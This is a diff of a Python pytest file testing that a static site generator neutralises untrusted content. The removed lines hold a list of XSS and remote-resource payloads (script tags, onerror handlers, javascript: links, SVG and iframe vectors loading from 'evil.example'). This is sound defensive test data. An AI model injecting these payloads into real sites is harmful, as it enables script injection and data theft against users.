@@ -1,74 +1,14 @@
 """Text that came from someone else can't run, fetch, leave or disguise itself, wherever it stands."""
 
 import re
-from collections.abc import Mapping
 from itertools import chain
-from pathlib import Path
 from urllib.parse import urlsplit
 
 import pytest
+from attacks import HOST, VECTORS, journal_full_of
 from built_site import HELLO, Built, Read, build_site, write_site_journal
 
 from generator.records.links import is_safe
-
-HOST = "evil.example"
-VECTORS = [
-    "<script>alert(1)</script>",
-    f"<script src=https://{HOST}/x.js></script>",
-    f"<SCRIPT SRC=//{HOST}/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    f"<img src=https://{HOST}/x.png srcset='//{HOST}/y.png 2x'>",
-    f"![remote](https://{HOST}/x.png)",
-    f'![remote](//{HOST}/x.png "title")',
-    "<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1) attributeName=x></svg>",
-    f'<svg><use href="https://{HOST}/x.svg#a"/><image href="//{HOST}/x.png"/><path fill="url(//{HOST}/f)"/></svg>',
-    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
-    "[click](javascript:alert(1))",
-    "[click](java&#x09;script:alert(1))",
-    "[click](<java\tscript:alert(1)>)",
-    "[click](data:text/html,<script>alert(1)</script>)",
-    "<a href=javascript:alert(1)>x</a> <a href=' &#1; vbscript:x'>y</a>",
-    "<javascript:alert(1)>",
-    "[ref] and [ref][]\n\n[ref]: javascript:alert(1)",
-    f"<iframe src=https://{HOST}/></iframe><object data=//{HOST}/></object><embed src=//{HOST}/>",
-    f"<link rel=stylesheet href=//{HOST}/x.css><style>@import '//{HOST}/x.css';</style>",
-    f'<meta http-equiv=refresh content="0;url=https://{HOST}/"><base href=https://{HOST}/>',
-    f'<p style="background:url(//{HOST}/x.png);position:fixed">x</p>',
-    f"<form action=https://{HOST}/><input name=q><button formaction=//{HOST}/>go</button></form>",
-    f'<video src=//{HOST}/v poster=//{HOST}/p onplay=alert(1)></video><audio src=https://{HOST}/a></audio>',
-    f'<div id="__config">{{"base":".","search":"https://{HOST}/worker.js"}}</div>',
-    f'<a data-md-component="source" href="https://github.com/a/b">x</a><pre class="mermaid">graph TD</pre>',
-    "text {: onclick=alert(1) onmouseover=alert(1) style=position:fixed }",
-    '## Heading <img src=x onerror=alert(1)> {: data-toc-label="<img src=x onerror=alert(1)>" }',
-    "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
-    "<!--><script>alert(1)</script>--><!-- <img src=x onerror=alert(1)> -->",
-    '<div class="md-overlay md-search__overlay" role="button">cover</div>',
-    "```mermaid\ngraph TD\n```",
-    "`<script>` &lt;script&gt;alert(1)&lt;/script&gt;",
-]  # fmt: skip
-
-
-def journal_full_of(vectors: list[str]) -> Mapping[str, str | bytes]:
-    quoted = ["'" + vector.replace("'", "''").replace("\n", " ").replace("\t", " ") + "'" for vector in vectors]
-    contacts = {
-        f"contacts/c{number}.md": "---\nname: {0}\naliases: [{0}]\nrole: {0}\ncompany: {0}\nbond: {0}\ntopics: [{0}]\n"
-        "website: 'javascript:alert(1)'\nlinkedin: 'javascript:alert(1)'\n---\n\n{1}\n".format(value, vector)
-        for number, (value, vector) in enumerate(zip(quoted, vectors, strict=True))
-    }
-    meetings = {
-        f"meetings/2026-11-03-m{number}.md": (
-            f"---\ndate: 2026-11-03\nwith: c{number}\ntitle: {value}\nplace: {value}\nlesson: {value}\n"
-            f"introductions: [{value}]\nfollow_ups: [{value}]\n---\n\n## Questions\n\n### {line}\n\n{vector}\n\n"
-            f"## Notes\n\n{vector}\n\n## Next\n\n- [ ] {line}\n"
-        )
-        for number, (value, vector) in enumerate(zip(quoted, vectors, strict=True))
-        for line in [vector.replace("\n", " ")]
-    }
-    update = f"---\ndate: 2026-11-10\nsubject: {quoted[0]}\n---\n\n" + "\n\n".join(vectors)
-    free = {f"free{number}.md": f"# {vector}\n\n{vector}\n" for number, vector in enumerate(vectors)}
-    return {**HELLO, **contacts, **meetings, **free, "updates/2026-11-10-news.md": update}
 
 
 @pytest.fixture(scope="module")
@@ -134,38 +74,19 @@ def check_addresses(address: str, tag: str, attributes: dict[str, str]) -> None:
 
 
 def test_the_themes_own_names_stay_the_themes(attacked: Built, benign: Built) -> None:
-    there = theirs(benign)
+    reserved = {name for _, page in benign.pages() for name in ids(page) if name.startswith("__")}
     for _, page in attacked.pages():
-        ids = [element.attributes["id"] for element in page.elements if "id" in element.attributes]
-        assert {name for name in ids if name.startswith("__")} - {"__nav_1"} <= there | {"__toc"}
-        assert ids.count("__config") == 1
-        inside = content_elements(page)
-        assert not [item for item in inside if "data-md-component" in item.attributes]
+        assert {name for name in ids(page) if name.startswith("__")} <= reserved
+        assert ids(page).count("__config") == 1
+        inside = [element for element in page.elements if element.in_content]
         classes = set(chain.from_iterable(item.attributes.get("class", "").split() for item in inside))
-        assert "mermaid" not in classes
-        assert not {name for name in classes if name.startswith("md-")}
+        assert not {name for name in classes if name.startswith(("md-", "mermaid"))}
+        assert not [item for item in inside if "data-md-component" in item.attributes]
         assert not [item for item in inside if "style" in item.attributes and item.tag not in ("td", "th")]
 
 
-def theirs(built: Built) -> set[str]:
-    return {
-        element.attributes.get("id", "")
-        for _, page in built.pages()
-        for element in page.elements
-        if element.attributes.get("id", "").startswith("__")
-    }
-
-
-def content_elements(page: Read) -> list[object]:
-    start = page.elements.index(page.content)
-    end = next(
-        (number for number, item in enumerate(page.elements) if item.attributes.get("class") == "md-dialog"),
-        len(page.elements),
-    )
-    footer = next(
-        (number for number, item in enumerate(page.elements) if item.tag == "footer"), end
-    )
-    return [item for item in page.elements[start + 1 : min(end, footer)]]
+def ids(page: Read) -> list[str]:
+    return [element.attributes["id"] for element in page.elements if "id" in element.attributes]
 
 
 def test_the_search_index_holds_text(attacked: Built) -> None:
